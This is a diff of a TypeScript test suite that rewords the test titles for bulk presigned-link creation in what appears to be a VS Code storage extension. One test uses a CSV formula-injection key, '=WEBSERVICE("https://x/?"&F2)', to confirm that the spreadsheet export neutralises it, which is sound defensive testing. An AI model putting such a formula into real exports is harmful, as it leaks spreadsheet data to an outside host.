@@ -27,7 +27,7 @@ describe('links in bulk', () => {
     return bench().node('logs', 'many/');
   };
 
-  it('gives every object below a bucket a link that works, in an editor', async () => {
+  it('are created for every object in a bucket, in an editor', async () => {
     await bench().run('bulkLinks', [await bench().node('docs')], answers('All objects'));
     assert.deepEqual(keys(), ['readme.txt', 'reports/2026.pdf', 'reports/summary.md', '报告/三.pdf']);
     for (const { key, url = '' } of lines()) {
@@ -42,7 +42,7 @@ describe('links in bulk', () => {
     assert.deepEqual([batch?.key, batch?.batchCount, batch?.format, batch?.method], ['', 4, 'jsonl', 'GET']);
   });
 
-  it('spares the user links in the backups of VS Code: they are shown read-only, saved and copied on demand', async () => {
+  it('are read-only in editors, so that VS Code backs none of them up, and are saved and copied on demand', async () => {
     await bench().run('bulkLinks', [await bench().node('docs')], answers('All objects'));
     const [{ name = '', text } = assert.fail('nothing was opened')] = bench().opened;
     assert.equal(name, 'docs links.jsonl');
@@ -64,7 +64,7 @@ describe('links in bulk', () => {
     assert.equal(bench().askedFiles.length, 1);
   });
 
-  it('spares the user a formula in a spreadsheet, and programs a changed key', async () => {
+  it('contain no formula in the CSV for spreadsheets, and unchanged keys in the exact CSV', async () => {
     const key = '=WEBSERVICE("https://x/?"&F2)';
     await bench().oss.emulator.putObject('logs', key, 'x');
     const rows: string[] = [];
@@ -86,7 +86,7 @@ describe('links in bulk', () => {
     assert.deepEqual(keys(), ['reports/2026.pdf', '报告/三.pdf']);
   });
 
-  it('begins with the filter that the tree shows', async () => {
+  it('start with the filter of the tree', async () => {
     const folder = await bench().node('docs', 'reports/');
     assert.ok(folder.kind === 'folder');
     bench().tree.filter(folder, 'sum*');
@@ -94,7 +94,7 @@ describe('links in bulk', () => {
     assert.deepEqual(keys(), ['reports/summary.md']);
   });
 
-  it('takes a selection, each object once, and asks for no filter where only objects are selected', async () => {
+  it('include each selected object once, without asking for a filter if only objects are selected', async () => {
     const nodes = [await bench().node('docs', 'readme.txt'), await bench().node('docs', 'reports/2026.pdf')];
     await bench().run('bulkLinks', [nodes[0], nodes], answers());
     assert.deepEqual(keys(), ['readme.txt', 'reports/2026.pdf']);
@@ -103,13 +103,13 @@ describe('links in bulk', () => {
     assert.deepEqual(keys(), ['reports/2026.pdf', 'reports/summary.md']);
   });
 
-  it('reports that no object matches', async () => {
+  it('report that no object matches', async () => {
     await bench().run('bulkLinks', [await bench().node('docs')], answers('Name', '*.exe', 'Objects that match'));
     assert.deepEqual(bench().messages, ['info: No objects match the filter']);
     assert.deepEqual(bench().opened, []);
   });
 
-  it('is silent after Escape at every step', async () =>
+  it('are not created after Escape at any step, and no message is shown', async () =>
     escapeSilently(bench(), 'bulkLinks', [await bench().node('docs')], ['All objects', VALIDITY, 'CSV, exact']));
 
   describe('above a thousand', () => {
@@ -120,7 +120,7 @@ describe('links in bulk', () => {
     });
     afterEach(() => rm(saveFolder, { recursive: true }));
 
-    it('asks with count and size, and writes a file', async () => {
+    it('need a confirmation with count and size, and are written to a file', async () => {
       const folder = await tooMany(1001);
       await bench().run('bulkLinks', [folder], new ScriptedPrompts('All objects', VALIDITY, 'Text', 'Create Links'));
       const text = await readFile(path.join(saveFolder, 'logs many links.txt'), 'utf8');
@@ -135,7 +135,7 @@ describe('links in bulk', () => {
       assert.deepEqual(bench().openedFiles, ['logs many links.txt']);
     });
 
-    it('spares the user links that a crash left behind: parts of the file go at the next run', async () => {
+    it('leave no partial file for long: the remains of a crash are deleted at the next run', async () => {
       const [old, running] = ['logs many links.txt.old.part', 'logs many links.txt.running.part'];
       for (const name of [old, running]) await writeFile(path.join(saveFolder, name), 'links');
       const hourAgo = new Date(Date.now() - 3_600_000);
@@ -145,7 +145,7 @@ describe('links in bulk', () => {
       assert.deepEqual((await readdir(saveFolder)).sort(), ['logs many links.txt', running]);
     });
 
-    it('makes nothing where that is declined', async () => {
+    it('are not created if the confirmation is declined', async () => {
       const folder = await tooMany(1001);
       const prompts = new ScriptedPrompts('All objects', VALIDITY, 'Text', undefined);
       await bench().run('bulkLinks', [folder], prompts);
@@ -156,7 +156,7 @@ describe('links in bulk', () => {
   });
 
   describe('for uploads', () => {
-    it('takes the names of the clipboard, each once, with the type that its name tells', async () => {
+    it('use each name on the clipboard once, with the content type of the name', async () => {
       bench().clipboardText = 'a.txt\r\n\n  b.png \na.txt\n';
       const folder = await bench().node('docs', 'reports/');
       await bench().run('bulkPutLinks', [folder], new ScriptedPrompts('From Clipboard', VALIDITY, 'JSON Lines'));
@@ -169,14 +169,14 @@ describe('links in bulk', () => {
       );
     });
 
-    it('tells the line that is no name, as it is counted on the clipboard', async () => {
+    it('report an invalid name with its line number on the clipboard', async () => {
       bench().clipboardText = `fine.txt\n\nfine.txt\r\n${'x'.repeat(1100)}`;
       const folder = await bench().node('docs', 'reports/');
       await bench().run('bulkPutLinks', [folder], new ScriptedPrompts('From Clipboard'));
       assert.match(bench().messages[0] ?? '', /^error: Line 4 is not a valid object name: /);
     });
 
-    it('tells how many names there are', async () => {
+    it('report the number of names', async () => {
       bench().clipboardText = Array.from({ length: 1234 }, (_, index) => `${index}.txt`).join('\n');
       const prompts = new ScriptedPrompts(undefined);
       await bench().run('bulkPutLinks', [await bench().node('docs', 'reports/')], prompts);
@@ -191,7 +191,7 @@ describe('links in bulk', () => {
         .oss.emulator.requests.filter(({ query }) => query.has('uploads') || query.has('uploadId'))
         .map(({ operation, status }) => `${operation} ${status}`);
 
-    it('are given up with the upload where the user leaves while it begins', async () => {
+    it('are dropped and the upload is aborted if the user cancels while it is initiated', async () => {
       const { transport } = bench().oss;
       const send = transport.request.bind(transport);
       let leave = (): void => undefined;
@@ -209,7 +209,7 @@ describe('links in bulk', () => {
       bench().assertSilent();
     });
 
-    it('are given up before anything is begun', async () => {
+    it('are not created if the user cancels before the upload is initiated', async () => {
       bench().onReport = (cancel) => {
         cancel();
       };
@@ -218,7 +218,7 @@ describe('links in bulk', () => {
       bench().assertSilent();
     });
 
-    it('say where an upload that was begun could not be given up', async () => {
+    it('report an initiated upload that cannot be aborted', async () => {
       bench().oss.emulator.faults.add({
         kind: 'status',
         status: 403,
@@ -234,7 +234,7 @@ describe('links in bulk', () => {
       assert.match(bench().messages.join('\n'), /^error: .*AccessDenied/);
     });
 
-    it('are given up with the upload where no editor opens', async () => {
+    it('are dropped and the upload is aborted if no editor opens', async () => {
       const services = bench().services(asked());
       const linkDocuments = { ...services.linkDocuments, show: () => Promise.reject(new Error('no editor')) };
       const folder = { profileId: 'p1', bucket: 'docs', prefix: '' };
@@ -243,7 +243,7 @@ describe('links in bulk', () => {
     });
   });
 
-  describe('of a profile whose role signs every link', () => {
+  describe('of a profile with a link role', () => {
     const refusal =
       'warn: Each link of profile "Work" is signed by its own role session, so links can\'t be created in bulk. Copy them one by one, or let the role sign only links that ask for it.';
     const signEveryLink = (id: string): Promise<void> =>
@@ -255,7 +255,7 @@ describe('links in bulk', () => {
     beforeEach(() => signEveryLink('p1'));
 
     for (const command of ['bulkLinks', 'bulkPutLinks', 'multipartUploadLinks'] as const) {
-      it(`are refused by ${command} before anything is asked, with the way out`, async () => {
+      it(`are refused by ${command} before any question, with a next step`, async () => {
         const { memory, oss } = bench();
         await memory.rememberUploadFolder({ profileId: 'p1', bucket: 'docs', prefix: '' });
         for (const args of [[await bench().node('docs', 'reports/')], []]) {
@@ -273,21 +273,21 @@ describe('links in bulk', () => {
         );
       });
 
-      it(`are refused by ${command} as soon as it is chosen among others`, async () => {
+      it(`are refused by ${command} as soon as that profile is chosen`, async () => {
         await bench().oss.saveProfile({ id: 'p2', name: 'Other' });
         await bench().run(command, [], new ScriptedPrompts('Work'));
         assert.deepEqual(bench().messages, [refusal]);
       });
     }
 
-    it('are refused where the folder of the last upload is one of its', async () => {
+    it('are refused if the last upload folder belongs to that profile', async () => {
       await bench().memory.rememberUploadFolder({ profileId: 'p1', bucket: 'docs', prefix: '' });
       await bench().oss.saveProfile({ id: 'p2', name: 'Other' });
       await bench().run('bulkPutLinks', [], new ScriptedPrompts('docs/'));
       assert.deepEqual(bench().messages, [refusal]);
     });
 
-    it('can be made once its role signs on request alone, which the way out leads to', async () => {
+    it('can be created once the role signs on request only, which the next step leads to', async () => {
       const prompts = new ScriptedPrompts();
       await bench().run('bulkLinks', [await bench().node('docs')], prompts);
       prompts.then(undefined);
